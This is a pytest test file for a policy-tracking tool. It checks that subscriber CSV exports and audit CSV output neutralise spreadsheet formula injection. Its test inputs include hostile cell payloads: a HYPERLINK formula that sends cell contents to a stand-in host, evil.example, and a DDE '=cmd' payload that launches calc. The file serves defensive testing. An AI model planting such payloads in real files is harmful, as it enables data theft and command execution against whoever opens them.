"""CSV formula injection (OWASP): `subscribers export` and `audit --format csv` write text, never formulas.

Each test runs the real command and reads the file back with the csv module,
as a spreadsheet would split it.
"""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from policywatch.csvcells import FORMULA_STARTS, SEPARATORS, neutralise, restore
from tests._email_support import Handler, smtp_server
from tests._git_support import new_git_project
from tests._publish_support import published_to_announce, run

HOSTILE_NAMES = [
    "=1+2",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "'=1+2",  # already quoted once: must come back with its quote
    "''@x",
]
HOSTILE_ADDRESSES = ["=a@example.com", "+b@example.com", "-c@example.com"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def repo(policy_repo, in_repo, monkeypatch):
    monkeypatch.delenv("POLICYWATCH_DATABASE_URL", raising=False)
    return in_repo(policy_repo)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_export_writes_a_hostile_name_as_text(repo, name):
    assert run("subscribers", "add", "ann@example.com", "--name", name).exit_code == 0
    assert run("subscribers", "export", "out.csv").exit_code == 0
    rows = _cells((repo.root / "out.csv").read_text(encoding="utf-8"))
    assert _formula_cells(rows) == []
    assert rows[1][1] == "'" + name


@pytest.mark.parametrize("address", HOSTILE_ADDRESSES)
def test_export_writes_an_address_starting_with_a_formula_character_as_text(repo, address):
    assert run("subscribers", "add", "--", address).exit_code == 0
    assert run("subscribers", "export", "out.csv").exit_code == 0
    rows = _cells((repo.root / "out.csv").read_text(encoding="utf-8"))
    assert rows[1][0] == "'" + address


def test_a_spreadsheet_splitting_on_semicolons_sees_no_formula_in_an_export(repo):
    run("subscribers", "add", "ann@example.com", "--name", "Smith;=1+2")
    run("subscribers", "export", "out.csv")
    rows = _cells((repo.root / "out.csv").read_text(encoding="utf-8"))
    semicolon_rows = list(csv.reader(io.StringIO((repo.root / "out.csv").read_text(encoding="utf-8")), delimiter=";"))
    assert rows[1][1] == "Smith;'=1+2"
    assert _formula_cells(semicolon_rows) == []


def test_export_then_import_gives_back_the_same_addresses_and_names(repo, tmp_path, monkeypatch):
    for n, name in enumerate(HOSTILE_NAMES + ["'Tis plain", "Ann", "Smith;=1+2", "a,;'-b"]):
        assert run("subscribers", "add", f"user{n}@example.com", "--name", name).exit_code == 0
    for address in HOSTILE_ADDRESSES:
        assert run("subscribers", "add", "--name", address, "--policy", "zepp-privacy", "--", address).exit_code == 0
    assert run("subscribers", "export", str(tmp_path / "out.csv")).exit_code == 0
    before = json.loads(run("subscribers", "list", "--format", "json").stdout)

    other = new_git_project(tmp_path / "other")
    other.commit("policies", {"policies/zepp-privacy.md": (repo.root / "policies/zepp-privacy.md").read_text()})
    monkeypatch.chdir(other.root)
    result = run("subscribers", "import", str(tmp_path / "out.csv"))
    assert result.exit_code == 0, result.output
    after = json.loads(run("subscribers", "list", "--format", "json").stdout)
    assert [(s["email"], s["name"], s["policies"]) for s in after] == [
        (s["email"], s["name"], s["policies"]) for s in before
    ]


def test_a_name_with_a_leading_tab_is_imported_trimmed_and_exported_as_text(repo):
    (repo.root / "in.csv").write_text('email,name\nann@example.com,"\t=1+2"\n', encoding="utf-8")
    assert run("subscribers", "import", "in.csv").exit_code == 0
    assert run("subscribers", "export", "out.csv").exit_code == 0
    rows = _cells((repo.root / "out.csv").read_text(encoding="utf-8"))
    assert rows[1][1] == "'=1+2"


def test_a_quote_typed_before_a_formula_in_a_spreadsheet_is_read_as_text(repo):
    (repo.root / "in.csv").write_text("email,name\nann@example.com,'=1+2\n", encoding="utf-8")
    assert run("subscribers", "import", "in.csv").exit_code == 0
    [sub] = json.loads(run("subscribers", "list", "--format", "json").stdout)
    assert sub["name"] == "=1+2"


@pytest.fixture
def announced(tmp_path, in_repo, monkeypatch):
    """A material release of the privacy policy with one subscriber, not yet announced."""
    monkeypatch.delenv("POLICYWATCH_DATABASE_URL", raising=False)
    monkeypatch.delenv("POLICYWATCH_FROM", raising=False)
    return published_to_announce(tmp_path, in_repo, "--name", "@Ann", "--", "-ann@example.com")


@pytest.mark.parametrize(
    "reply",
    ['=HYPERLINK("https://evil.example","proof")', "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0"],
)
def test_audit_csv_writes_a_hostile_smtp_reply_as_text(announced, monkeypatch, reply):
    with smtp_server(Handler(script=[f"250 {reply}"])) as (controller, _handler):
        monkeypatch.setenv("POLICYWATCH_SMTP_URL", f"smtp://127.0.0.1:{controller.port}")
        assert run("notify", "privacy@2.0").exit_code == 0
    result = run("audit", "privacy@2.0")
    assert result.exit_code == 0, result.output
    rows = _cells(result.stdout)
    assert _formula_cells(rows) == []
    [row] = list(csv.DictReader(io.StringIO(result.stdout)))
    assert (row["detail"], row["recipient"], row["name"]) == ("'" + reply, "'-ann@example.com", "'@Ann")


CELLS = st.text() | st.text(alphabet=st.sampled_from("=+-@\t\r\n,;' a"))


@given(CELLS)
def test_restore_undoes_neutralise(text):
    assert restore(neutralise(text)) == text


@given(CELLS, st.sampled_from(SEPARATORS))
def test_no_piece_of_a_neutralised_cell_starts_a_formula_whatever_the_separator(text, separator):
    pieces = neutralise(text).split(separator)
    assert not [piece for piece in pieces if piece.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("text", ["'Tis", "plain", "", "'", "a=b", "'x=1", "a; b", "x,'y"])
def test_a_cell_without_a_formula_character_is_left_alone_both_ways(text):
    assert neutralise(text) == text and restore(text) == text
